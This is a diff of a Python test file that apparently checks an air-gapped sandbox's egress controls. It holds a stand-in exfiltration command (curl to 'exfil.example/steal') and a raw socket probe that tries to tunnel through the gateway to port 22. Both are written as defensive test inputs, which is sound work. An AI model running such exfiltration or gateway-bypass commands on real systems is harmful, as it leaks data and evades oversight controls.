@@ -44,10 +44,10 @@ def test_post_body_is_hashed(events_sandbox):
 
 
 def test_unknown_host_fails_fast_and_is_logged(events_sandbox):
-    r = events_sandbox.exec("curl -sS https://exfil.example.com/steal", timeout=30)
+    r = events_sandbox.exec("curl -sS https://exfil.example/steal", timeout=30)
     assert r.exit_code == 6 and "Could not resolve host" in r.stderr  # NXDOMAIN at once, no retries
     attempts = [e for e in events_sandbox.events if e["type"] == "egress_attempt"]
-    assert attempts and all(a["host"] == "exfil.example.com" and a["via"] == "dns" for a in attempts)
+    assert attempts and all(a["host"] == "exfil.example" and a["via"] == "dns" for a in attempts)
 
 
 def test_unknown_host_via_relay_gets_clear_502(events_sandbox):
@@ -62,7 +62,7 @@ def test_unknown_host_via_relay_gets_clear_502(events_sandbox):
 
 def test_speaking_to_the_gateway_socket_directly_is_logged(events_sandbox):
     probe = ("import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect('/run/airgap/gw.sock')\n"
-             "s.sendall(b'CONNECT 10.0.0.1:22\\n')\nprint(s.recv(100))")
+             "s.sendall(b'CONNECT exfil.example:22\\n')\nprint(s.recv(100))")
     r = events_sandbox.exec(["python3", "-c", probe])
     assert r.stdout.strip() == "b''"
     attempt = next(e for e in events_sandbox.events if e["type"] == "egress_attempt")
